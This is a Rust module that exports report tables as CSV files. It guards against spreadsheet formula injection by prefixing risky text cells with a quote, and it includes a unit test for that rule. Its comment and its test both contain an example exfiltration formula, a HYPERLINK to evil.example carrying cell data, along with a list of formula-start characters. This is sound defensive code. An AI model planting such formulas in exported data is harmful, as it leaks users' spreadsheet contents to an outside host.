//! CSV: one file per table.
//!
//! The tables of a report have different columns, so each becomes its own RFC 4180
//! file, written by the `csv` crate (CRLF line ends, fields quoted when they hold a
//! comma, quote, CR or LF, quotes doubled), named `<report id>-<table id>.csv`. The
//! first row holds the labels in the chosen language. Numbers are the model's values
//! exactly, as in JSON and the XLSX cells (`1234.5`: `.` decimals, no grouping, no
//! rounding to the column's places — report builders round what should be rounded),
//! percentages are fractions as in the model (`0.5`), dates ISO. Total rows are
//! ordinary rows; flagged rows carry their reason in a last "Catatan"/"Note" column.
//! No byte-order mark is written.
//!
//! **Formulas.** A spreadsheet opening a CSV runs a cell that begins with `=`, `+`,
//! `-` or `@` (and, in some, a tab or carriage return) as a formula: a library named
//! `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link that
//! sends the sheet's data away. Following OWASP's rule, every text cell (names, labels,
//! reasons; never a number, which is written by the report itself) that begins with one
//! of those characters gets a `'` in front, which spreadsheets show as plain text. XLSX
//! needs no such rule: its cells are typed, text stays text.

use super::model::Cell;
use super::number::plain_number;
use super::{RenderOptions, Report, Table};

/// One CSV file of a report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CsvFile {
    /// The file name, `<report id>-<table id>.csv`.
    pub name: String,
    /// The file's text.
    pub content: String,
}

/// Every table of the report as a CSV file, in order (suppression applied).
pub fn render_csv(report: &Report, options: &RenderOptions) -> Vec<CsvFile> {
    let report = report.for_export(options);
    report
        .sections
        .iter()
        .map(|table| CsvFile {
            name: format!("{}-{}.csv", report.id, table.id),
            content: table_csv(table, options),
        })
        .collect()
}

/// One table as CSV text. Apply suppression first ([`Report::for_export`]) when the
/// table comes from a report that leaves the office.
pub fn table_csv(table: &Table, options: &RenderOptions) -> String {
    let lang = options.lang;
    let mut out = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    let header: Vec<String> = table.header(lang).iter().map(|l| text_cell(l)).collect();
    // Writing to a Vec cannot fail; a record the writer refused would only be missing.
    let _ = out.write_record(&header);
    let flags = table.has_flags();
    for row in &table.rows {
        let mut fields: Vec<String> = table
            .columns
            .iter()
            .zip(&row.cells)
            .map(|(_, cell)| plain_cell(cell))
            .collect();
        if flags {
            fields.push(text_cell(
                row.emphasis
                    .as_ref()
                    .map(|flag| flag.reason.get(lang))
                    .unwrap_or_default(),
            ));
        }
        let _ = out.write_record(&fields);
    }
    let bytes = out.into_inner().unwrap_or_default();
    // Every field came from a `String`, so the bytes are UTF-8.
    String::from_utf8(bytes).unwrap_or_default()
}

fn plain_cell(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) => text_cell(text),
        Cell::Empty => String::new(),
        Cell::Number(n) => plain_number(*n),
    }
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP's list).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as CSV carries it: with a `'` in front when it would start a formula.
pub(crate) fn text_cell(text: &str) -> String {
    if text.starts_with(FORMULA_START) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_would_be_formulas_are_plain_text() {
        for dangerous in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tcmd",
            "\rcmd",
        ] {
            assert_eq!(text_cell(dangerous), format!("'{dangerous}"));
        }
        for safe in ["Perpustakaan Desa Dermaji", "2026-10-01", "", "a=b", "<5"] {
            assert_eq!(text_cell(safe), safe);
        }
        // Numbers are the report's own and stay numbers, negative ones too.
        assert_eq!(plain_cell(&Cell::Number(-1.5)), "-1.5");
    }
}
